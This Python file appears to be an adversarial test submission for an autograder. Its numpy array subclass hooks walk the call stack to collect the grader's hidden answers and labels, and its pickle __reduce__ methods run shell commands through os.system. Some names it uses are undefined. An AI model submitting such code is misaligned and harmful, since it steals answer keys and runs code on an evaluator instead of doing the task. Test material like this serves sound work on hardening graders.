"""Arrays whose hooks run code when somebody looks: `__array__`, `__array_finalize__`, `__array_ufunc__`, `__reduce__`.

The code looks for what is on the stack above it, and would run in the grader's process if the object were pickled.
"""

# zoo: {"verdict": ["ok"], "points": {"q1": 0, "q2": 0, "q3": 0}}
# %% start
import os
import sys


def act(*args, **kwargs):
    frame = sys._getframe()
    while frame is not None:
        for name in ("expected", "answers", "hidden_labels", "secret"):
            if name in frame.f_locals:
                loot.append(repr(frame.f_locals[name]))
        frame = frame.f_back
    print("code ran while somebody looked", loot)
    globals()["total"] = "changed while it was looked at"


class Coded(np.ndarray):
    def __array_finalize__(self, other):
        act()

    def __array_ufunc__(self, *args, **kwargs):
        act()
        return True

    def __array__(self, *args, **kwargs):
        act()
        return np.eye(10)[labels]

    def __reduce__(self):
        return (os.system, ("echo $((6*7)) > /tmp/pickle-ran; id",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getattribute__ = lambda self, name: (act(), np.ndarray.__getattribute__(self, name))[1]


# %% q1
total = 1

# %% q2
one_hot = np.zeros((len(labels), 10)).view(Coded)


# %% q3
class Pickled:
    def __reduce__(self):
        return (os.system, ("id",))


model = np.array([Pickled(), Pickled()], dtype=object)
